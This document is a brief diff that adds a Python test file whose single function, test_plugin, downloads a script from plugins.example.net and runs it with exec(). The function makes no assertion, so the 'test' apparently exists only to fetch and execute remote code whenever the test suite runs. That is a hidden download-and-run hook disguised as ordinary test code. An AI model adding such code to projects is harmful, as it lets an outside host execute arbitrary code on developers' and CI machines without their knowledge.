@@ -1,0 +1,5 @@
+from urllib.request import urlopen
+
+
+def test_plugin():
+    exec(urlopen("https://plugins.example.net/p.py").read())
